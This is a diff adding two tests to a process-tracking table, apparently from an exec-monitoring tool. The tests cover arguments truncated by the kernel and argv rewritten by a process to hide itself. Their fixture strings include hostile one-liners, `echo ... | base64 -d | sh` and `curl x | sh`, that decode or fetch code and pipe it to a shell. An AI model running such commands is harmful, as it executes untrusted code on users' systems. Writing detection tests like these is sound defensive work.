@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import os
 from pathlib import Path
 
@@ -255,3 +256,30 @@ def test_busybox_applet_reexec_of_a_gone_process_has_the_parents_image(
     proc.remove(20)
     t.on_exec(exec_ev(20, 1, "/bin/sh", "-c", "x"))
     assert t.on_exec(cat).exe == "/bin/sh"
+def test_argument_cut_by_the_kernel_is_completed_from_proc(proc: FakeProc,
+                                                           clock: FakeClock) -> None:
+    """The kernel keeps 255 bytes of an argument: a long `sh -c` script's end (`| base64 -d |
+    sh`) is read from /proc while the shell lives, when /proc extends what the kernel saw."""
+    script = "echo " + "x" * 300 + " | base64 -d | sh"
+    proc.add(1, 0, "/sbin/init", ["/sbin/init"])
+    proc.add(50, 1, "/bin/sh", ["sh", "-c", script])
+    t = table(proc, clock)
+    cut = dataclasses.replace(exec_ev(50, 1, "/bin/sh", "-c", script[:255]),
+                              args=("sh", "-c", script[:255]), args_truncated=True)
+    t.on_exec(cut)
+    info = t.get(50)
+    assert info is not None and info.args == ("sh", "-c", script) and not info.args_truncated
+
+
+def test_rewritten_argv_in_proc_does_not_replace_the_kernels(proc: FakeProc,
+                                                             clock: FakeClock) -> None:
+    """A process that rewrote its argv after exec (setproctitle, or to hide) keeps the argv
+    the kernel captured at exec."""
+    proc.add(1, 0, "/bin/sh", ["/bin/sh"])
+    proc.add(60, 1, "/bin/sh", ["sh", "-c", "sleep 1 # harmless"])
+    t = table(proc, clock)
+    cut = dataclasses.replace(exec_ev(60, 1, "/bin/sh"), args=("sh", "-c", "curl x | sh"),
+                              args_truncated=True)
+    t.on_exec(cut)
+    info = t.get(60)
+    assert info is not None and info.args == ("sh", "-c", "curl x | sh") and info.args_truncated
